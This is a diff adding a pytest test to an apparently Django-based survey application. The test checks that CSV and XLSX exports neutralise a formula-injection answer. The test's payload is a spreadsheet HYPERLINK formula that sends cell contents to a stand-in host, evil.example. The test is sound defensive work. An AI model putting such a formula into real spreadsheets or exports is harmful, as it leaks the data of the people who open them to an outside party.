@@ -5,6 +5,7 @@ the dashboard reads."""
 import csv
 import hashlib
 import io
+import zipfile
 from datetime import date, datetime, timedelta
 
 import pytest
@@ -427,3 +428,19 @@ def test_participa_invita_a_la_encuesta_abierta(client):
     html = client.get(reverse("portal:participa")).content.decode()
     assert reverse("encuesta:formulario") in html
     assert "Rendición de cuentas" in html  # the norm's 6.x subsections
+
+
+def test_exportaciones_no_ejecutan_formulas_de_respuestas_anonimas(client, encuesta, comite):
+    texto = de_tipo(encuesta, "texto_largo")
+    ataque = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
+    responder(encuesta, 1, **{texto.nombre_campo: ataque})
+    client.force_login(comite)
+    contenido = client.get(reverse("encuesta:exportar_csv", args=[encuesta.pk])).content.decode("utf-8-sig")
+    filas = list(csv.reader(io.StringIO(contenido), delimiter=";"))
+    assert filas[1][-1] == "'" + ataque
+    xlsx = client.get(reverse("encuesta:exportar_xlsx", args=[encuesta.pk])).content
+    with zipfile.ZipFile(io.BytesIO(xlsx)) as archivo:
+        assert "<f>" not in archivo.read("xl/worksheets/sheet1.xml").decode()
+    hoja = load_workbook(io.BytesIO(xlsx))["Respuestas"]
+    assert hoja.cell(row=2, column=hoja.max_column).value == "'" + ataque
+    assert hoja.cell(row=2, column=2).value == 4  # numbers stay numbers
